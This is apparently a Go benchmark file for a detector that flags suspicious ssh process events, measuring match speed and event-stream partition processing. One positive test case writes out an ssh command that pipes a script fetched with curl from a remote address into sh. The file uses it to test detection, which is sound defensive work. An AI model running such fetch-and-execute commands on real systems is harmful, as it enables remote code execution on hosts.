package processor

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"
)

func BenchmarkMatch(b *testing.B) {
	cases := []struct {
		name string
		e    Event
	}{
		{"ssh positive", Event{ProcessName: "ssh", Process: positiveCommand}},
		{"ssh positive spaced", Event{ProcessName: "ssh", Process: "ssh -o StrictHostKeyChecking=no -o BatchMode=yes 10.0.0.2 'curl -fsSL http://203.0.113.7/x.sh | sh'"}},
		{"ssh negative", Event{ProcessName: "ssh", Process: "ssh -i /home/deploy/.ssh/id_ed25519 -p 2222 deploy@build-07.internal.example uptime"}},
		{"ssh negative with URL", Event{ProcessName: "ssh", Process: "ssh -p 2222 deploy@build-07 'curl -s https://status.internal.example/health'"}},
		{"non-ssh", Event{ProcessName: "python3", Process: "/usr/bin/python3 -m http.server --bind 127.0.0.1 8080 --directory /srv/www/static"}},
	}
	for _, mode := range []MatchMode{MatchESCU, MatchRobust} {
		for _, c := range cases {
			b.Run(mode.String()+"/"+c.name, func(b *testing.B) {
				e := c.e
				b.ReportAllocs()
				for b.Loop() {
					Match(mode, &e)
				}
			})
		}
	}
}

// mixedStream is one hour of events on many hosts: about 1% ssh, a third of
// those matching, the rest other processes.
func mixedStream(n, hosts int) []Event {
	r := rand.New(rand.NewPCG(42, 42))
	events := make([]Event, n)
	span := time.Hour
	for i := range events {
		t := day.Add(10*time.Hour + span*time.Duration(i)/time.Duration(n))
		dest := fmt.Sprintf("host-%04d", r.IntN(hosts))
		switch x := r.IntN(1000); {
		case x < 3:
			events[i] = *positive(dest, fmt.Sprint(1000+r.IntN(50)), t)
		case x < 10:
			events[i] = *negative(dest, t)
		default:
			events[i] = Event{Time: t, Dest: dest, User: "app", ProcessName: "python3",
				Process:   "/usr/bin/python3 /opt/app/worker.py --queue default --concurrency 4",
				ProcessID: fmt.Sprint(r.IntN(65536)), ParentProcessName: "systemd", ParentProcessID: "1"}
		}
	}
	return events
}

func BenchmarkPartitionProcess(b *testing.B) {
	for _, mode := range []EmitMode{EmitEarly, EmitFinal} {
		b.Run(mode.String(), func(b *testing.B) {
			const n = 100_000
			events := mixedStream(n, 5000)
			times := make([]time.Time, n)
			for i := range events {
				times[i] = events[i].Time
			}
			cfg := DefaultConfig()
			cfg.Emit = mode
			p, err := NewPartition(cfg)
			if err != nil {
				b.Fatal(err)
			}
			out := make([]Result, 0, 1024)
			var emitted int
			b.ReportAllocs()
			i := 0
			for b.Loop() {
				k := i % n
				// Each pass over the stream is the next hour, so time moves on.
				e := &events[k]
				e.Time = times[k].Add(time.Duration(i/n) * time.Hour)
				out = p.Process(e, e.Time, out[:0])
				emitted += len(out)
				i++
			}
			b.ReportMetric(float64(emitted)/float64(i), "results/op")
		})
	}
}

func BenchmarkPartitionProcessNonMatching(b *testing.B) {
	p, err := NewPartition(DefaultConfig())
	if err != nil {
		b.Fatal(err)
	}
	e := negative("web-1", day)
	out := make([]Result, 0, 16)
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		e.Time = day.Add(time.Duration(i) * time.Millisecond)
		out = p.Process(e, e.Time, out[:0])
		i++
	}
}

func BenchmarkAdvance(b *testing.B) {
	p, err := NewPartition(DefaultConfig())
	if err != nil {
		b.Fatal(err)
	}
	out := make([]Result, 0, 16)
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		t := day.Add(time.Duration(i) * time.Millisecond)
		out = p.Advance(t, t, out[:0])
		i++
	}
}
